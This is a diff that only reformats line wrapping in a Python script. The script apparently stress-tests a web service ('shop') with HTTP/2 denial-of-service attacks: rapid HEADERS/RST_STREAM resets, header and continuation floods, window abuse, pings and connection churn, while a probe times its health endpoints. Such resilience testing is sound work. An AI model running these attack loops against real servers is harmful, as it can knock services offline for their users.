@@ -21,7 +21,16 @@ import hpack
 import trio
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
+    0,
+    1,
+    3,
+    4,
+    6,
+    7,
+    8,
+    9,
+)
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
 FRAME = 16384  # bytes of DATA in a frame
 PAUSE = 0.05  # seconds before a closed connection is opened again
@@ -39,7 +48,9 @@ def head(method: str, path: str = "/") -> bytes:
     """A header block without dynamic entries, so that it can be sent on any stream."""
     encoder = hpack.Encoder()
     encoder.header_table_size = 0
-    return encoder.encode([(":method", method), (":scheme", "http"), (":path", path), (":authority", "shop")])
+    return encoder.encode(
+        [(":method", method), (":scheme", "http"), (":path", path), (":authority", "shop")]
+    )
 
 
 class Victim:
@@ -90,8 +101,15 @@ class Flow:
         try:
             while data := await stream.receive_some(65536):
                 buffer += data
-                while len(buffer) >= 9 and len(buffer) >= 9 + (size := int.from_bytes(buffer[:3], "big")):
-                    self._frame(buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big"), buffer[9 : 9 + size])
+                while len(buffer) >= 9 and len(buffer) >= 9 + (
+                    size := int.from_bytes(buffer[:3], "big")
+                ):
+                    self._frame(
+                        buffer[3],
+                        buffer[4],
+                        int.from_bytes(buffer[5:9], "big"),
+                        buffer[9 : 9 + size],
+                    )
                     buffer = buffer[9 + size :]
         except GONE:
             pass
@@ -115,7 +133,9 @@ class Flow:
             counts["answers"] += 1
 
 
-async def forever(victim: Victim, attack: Callable[[trio.SocketStream, Victim], Awaitable[None]]) -> None:
+async def forever(
+    victim: Victim, attack: Callable[[trio.SocketStream, Victim], Awaitable[None]]
+) -> None:
     """Attack on one connection, and on a new one whenever it ends."""
     while True:
         try:
@@ -198,7 +218,9 @@ async def windows(stream: trio.SocketStream, victim: Victim) -> None:
     numbers = [2 * each + 1 for each in range(victim.streams)]
     flow.streams = dict.fromkeys(numbers, flow.initial)
     opening = b"".join(frame(HEADERS, END_HEADERS, number, block) for number in numbers)
-    await stream.send_all(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + opening)
+    await stream.send_all(
+        PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + opening
+    )
     async with trio.open_nursery() as nursery:
         nursery.start_soon(flow.read, stream)
         while not flow.ended:
@@ -226,7 +248,11 @@ async def headers(stream: trio.SocketStream, victim: Victim) -> None:
         while not flow.ended:
             numbers = range(first, first + 2 * victim.streams, 2)
             first += 2 * victim.streams
-            await stream.send_all(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, block) for number in numbers))
+            await stream.send_all(
+                b"".join(
+                    frame(HEADERS, END_HEADERS | END_STREAM, number, block) for number in numbers
+                )
+            )
             counts["requests"] += victim.streams
             await trio.sleep(1)
         nursery.cancel_scope.cancel()
@@ -244,7 +270,10 @@ async def resets(stream: trio.SocketStream, victim: Victim) -> None:
         while not flow.ended:
             numbers = range(first, first + 2 * victim.streams, 2)
             first += 2 * victim.streams
-            pairs = (frame(HEADERS, 5, number, block) + frame(RST_STREAM, 0, number, cancel) for number in numbers)
+            pairs = (
+                frame(HEADERS, 5, number, block) + frame(RST_STREAM, 0, number, cancel)
+                for number in numbers
+            )
             await stream.send_all(b"".join(pairs))
             counts["requests"] += victim.streams
             await trio.sleep(0.01)
@@ -289,14 +318,17 @@ async def churn(victim: Victim, number: int) -> None:
 
 
 async def probe(victim: Victim) -> None:
-    """Ask /live and /ready in turn, ten times a second, each on a new connection; `slowest` is in milliseconds."""
+    """Ask /live and /ready in turn, ten times a second, each on a new connection; `slowest` is in
+    milliseconds."""
     for path in ("/live", "/ready") * 100_000:
         began = time.perf_counter()
         answer = b""
         try:
             with trio.fail_after(5):
                 async with await trio.open_tcp_stream(victim.host, victim.port) as stream:
-                    await stream.send_all(f"GET {path} HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n".encode())
+                    await stream.send_all(
+                        f"GET {path} HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n".encode()
+                    )
                     while data := await stream.receive_some(65536):
                         answer += data
         except (*GONE, trio.TooSlowError):
@@ -307,7 +339,19 @@ async def probe(victim: Victim) -> None:
         await trio.sleep(0.1)
 
 
-KINDS = (idle, refused, handshakes, heads, scrape, uploads, windows, headers, resets, continuation, pings)
+KINDS = (
+    idle,
+    refused,
+    handshakes,
+    heads,
+    scrape,
+    uploads,
+    windows,
+    headers,
+    resets,
+    continuation,
+    pings,
+)
 
 
 async def main(*arguments: str) -> None:
